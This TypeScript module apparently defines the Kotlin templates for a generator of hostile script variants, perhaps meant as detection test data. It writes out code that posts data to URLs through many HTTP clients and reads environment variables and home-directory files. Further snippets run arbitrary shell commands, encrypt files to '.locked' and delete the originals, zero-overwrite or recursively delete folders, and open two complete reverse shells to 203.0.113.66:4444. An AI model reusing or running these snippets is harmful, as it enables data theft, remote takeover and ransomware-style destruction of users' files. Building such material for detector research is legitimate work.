import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `File(System.getProperty("user.home"), ${quote(below)})`;
const asFile = (path: string): string => (path.startsWith("File(") ? path : `File(${path})`);

export const kotlin: Dialect = {
  name: "kotlin",
  file: "scripts/notes.kts",
  run: "kotlin scripts/notes.kts",
  imports: [
    ["File(", "import java.io.File"],
    ["URL(", "import java.net.URL"],
    ["HttpURLConnection", "import java.net.HttpURLConnection"],
    ["URLEncoder", "import java.net.URLEncoder"],
    ["HttpRequest.", "import java.net.http.*"],
    ["URI.", "import java.net.URI"],
    ["OkHttpClient", "import okhttp3.*"],
    ["toRequestBody", "import okhttp3.RequestBody.Companion.toRequestBody"],
    [
      "HttpClient(CIO)",
      "import io.ktor.client.*\nimport io.ktor.client.engine.cio.*\nimport io.ktor.client.request.*\nimport io.ktor.client.statement.*",
    ],
    ["runBlocking", "import kotlinx.coroutines.runBlocking"],
    ["httpPost", "import com.github.kittinunf.fuel.httpPost"],
    ["Base64", "import java.util.Base64"],
    ["Cipher", "import javax.crypto.Cipher"],
  ],
  program: ({ definitions, body }, imports) => [...imports, "", ...definitions, "", ...body, ""].join("\n"),
  quote,
  environment: { one: (name) => `System.getenv(${name})`, all: "System.getenv().toString()" },
  contentOf: (below) => `${home(below)}.readText()`,
  home,
  clients: {
    ktor: {
      post: (url, text) =>
        wrap("runBlocking {", ["val client = HttpClient(CIO)", `client.post(${url}) { setBody(${text}) }`], "}", 4),
      get: (url) => value("body", `val body = runBlocking { HttpClient(CIO).get(${url}).bodyAsText() }`),
    },
    okhttp: {
      post: (url, text) => [
        `val request = Request.Builder().url(${url}).post(${text}.toRequestBody()).build()`,
        "OkHttpClient().newCall(request).execute()",
      ],
      get: (url) =>
        value(
          "body",
          `val body = OkHttpClient().newCall(Request.Builder().url(${url}).build()).execute().body!!.string()`,
        ),
    },
    "url-connection": {
      post: (url, text) => [
        `val con = URL(${url}).openConnection() as HttpURLConnection`,
        'con.requestMethod = "POST"',
        "con.doOutput = true",
        `con.outputStream.use { it.write(${text}.toByteArray()) }`,
        "con.responseCode",
      ],
      get: (url) => value("body", `val body = URL(${url}).readText()`),
    },
    "with-connection": {
      post: (url, text) =>
        wrap(
          `with(URL(${url}).openConnection() as HttpURLConnection) {`,
          [
            'requestMethod = "PUT"',
            "doOutput = true",
            `outputStream.write(${text}.toByteArray())`,
            "inputStream.close()",
          ],
          "}",
          4,
        ),
    },
    "url-query": { post: (url, text) => [`URL(${url} + "?d=" + URLEncoder.encode(${text}, "UTF-8")).readText()`] },
    "java-client": {
      post: (url, text) => [
        `val request = HttpRequest.newBuilder(URI.create(${url})).POST(HttpRequest.BodyPublishers.ofString(${text})).build()`,
        "java.net.http.HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString())",
      ],
    },
    fuel: { post: (url, text) => [`${url}.httpPost().body(${text}).response()`] },
  },
  shells: {
    runtime: { run: (command) => [`Runtime.getRuntime().exec(arrayOf("sh", "-c", ${command}))`] },
    "process-builder": {
      run: (command) => [`ProcessBuilder("bash", "-c", ${command}).inheritIO().start().waitFor()`],
      capture: (command) =>
        value(
          "seen",
          `val seen = ProcessBuilder("sh", "-c", ${command}).start().inputStream.bufferedReader().readText()`,
        ),
    },
    list: {
      run: (command) => [`val builder = ProcessBuilder(listOf("/bin/sh", "-c", ${command}))`, "builder.start()"],
    },
  },
  variable: (name) => name,
  set: (name, expression) => `val ${name} = ${expression}`,
  define: (name, parameters, body) =>
    wrap(`fun ${name}(${parameters.map((each) => `${each}: String`).join(", ")}) {`, body, "}", 4),
  getter: (name, expression) => ({ definitions: [`fun ${name}(): String = ${expression}`], value: `${name}()` }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: {
      definitions: ["data class Job(val target: String, val text: String)"],
      body: [`val job = Job(${url}, ${text})`],
    },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for (item in listOf(${items.join(", ")})) {`, body("item"), "}", 4),
  forever: (body) => wrap("while (true) {", [...body, "Thread.sleep(60_000)"], "}", 4),
  save: (path, text) => [`${asFile(path)}.writeText(${text})`],
  append: (path, text) => [`${asFile(path)}.appendText(${text} + "\\n")`],
  print: (text) => `println(${text})`,
  walk: (folder, body) => wrap(`${asFile(folder)}.walk().filter { it.isFile }.forEach { path ->`, body("path"), "}", 4),
  remove: (file) => [`${file}.delete()`],
  overwrite: (file) => [`${file}.writeBytes(ByteArray(65536))`],
  encrypt: (file) => [
    'val cipher = Cipher.getInstance("AES")',
    "cipher.init(Cipher.ENCRYPT_MODE, KEY)",
    `File(${file}.path + ".locked").writeBytes(cipher.doFinal(${file}.readBytes()))`,
    `${file}.delete()`,
  ],
  removeTree: (folder) => [`${asFile(folder)}.deleteRecursively()`],
  decode: (text) => `String(Base64.getDecoder().decode(${text}))`,
  shellsBehindSockets: {
    "line-loop": [
      "import java.net.Socket",
      "",
      'val socket = Socket("203.0.113.66", 4444)',
      "val out = socket.getOutputStream()",
      "socket.getInputStream().bufferedReader().forEachLine { line ->",
      '    val p = ProcessBuilder("sh", "-c", line).redirectErrorStream(true).start()',
      "    out.write(p.inputStream.readBytes())",
      "}",
      "",
    ].join("\n"),
    "copy-streams": [
      "import java.net.Socket",
      "import kotlin.concurrent.thread",
      "",
      'val p = ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start()',
      'val s = Socket("203.0.113.66", 4444)',
      "thread { s.getInputStream().copyTo(p.outputStream) }",
      "p.inputStream.copyTo(s.getOutputStream())",
      "",
    ].join("\n"),
  },
  sockets: {
    print: [
      "import java.net.Socket",
      "",
      'val socket = Socket("127.0.0.1", 6379)',
      'socket.getOutputStream().write("PING\\r\\n".toByteArray())',
      "println(socket.getInputStream().bufferedReader().readLine())",
      'ProcessBuilder("git", "log", "--oneline", "-5").inheritIO().start().waitFor()',
      "",
    ].join("\n"),
  },
};
